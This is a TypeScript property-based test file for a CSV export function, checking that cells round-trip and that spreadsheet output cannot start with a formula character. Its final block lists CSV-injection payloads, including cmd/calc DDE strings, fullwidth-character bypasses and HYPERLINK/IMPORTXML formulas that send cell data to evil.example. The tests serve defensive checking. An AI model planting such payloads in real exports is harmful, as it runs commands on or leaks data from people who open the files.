import fc from "fast-check";
import { expect, test } from "vitest";
import { listOf } from "@/lib/rows/testing/list-of";
import { csvRow } from "./csv-row";

const sign = fc.constantFrom(
  "a",
  "=",
  "+",
  "-",
  "@",
  "＝",
  "＠",
  '"',
  "'",
  ",",
  ";",
  "\t",
  "\n",
  " ",
  "é",
  "😀",
  "|",
);
const cell = fc.array(sign, { maxLength: 12 }).map((signs) => signs.join(""));
const rows = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 8 });

/** Rows of a file whose first cell says that the row is one. */
const written = (cells: string[][], raw: boolean) =>
  ["row,a,b,c\r\n", ...cells.map((row, index) => csvRow([`${index}`, ...row], { raw }))].join("");

test("what is written for programs is read as it was", async () => {
  await fc.assert(
    fc.asyncProperty(rows, fc.integer({ min: 1, max: 50 }), async (cells, size) => {
      const read = await listOf(written(cells, true), { size, header: true });
      expect(read.rows.map((row) => row.slice(1))).toEqual(cells);
      expect(read.notes).toEqual([]);
    }),
  );
});

test("what is written for spreadsheets has at most an apostrophe more, and no cell that one would run", async () => {
  await fc.assert(
    fc.asyncProperty(rows, async (cells) => {
      const read = (await listOf(written(cells, false), { header: true })).rows.map((row) => row.slice(1));
      for (const [y, row] of read.entries()) {
        for (const [x, text] of row.entries()) {
          const cell = cells[y]?.[x] ?? "";
          expect([cell, `'${cell}`]).toContain(text);
          expect(text).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
        }
      }
    }),
  );
});

/** What OWASP lists for CSV injection, and ways around a guard that looks at the first sign of a cell alone. */
test.each([
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
  '","=1+1',
  '"=1+1',
  "a\r\n=1+1",
  'a",\r\n"=1+1',
  ";=1+1",
])("%j begins no cell of an export, wherever it is put", async (evil) => {
  const line = csvRow(["before", evil, evil]);
  const { rows: read } = await listOf(`row,a,b\r\n${line}`, { header: true });
  expect(read).toHaveLength(1);
  for (const text of read[0] ?? []) expect(text).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
});
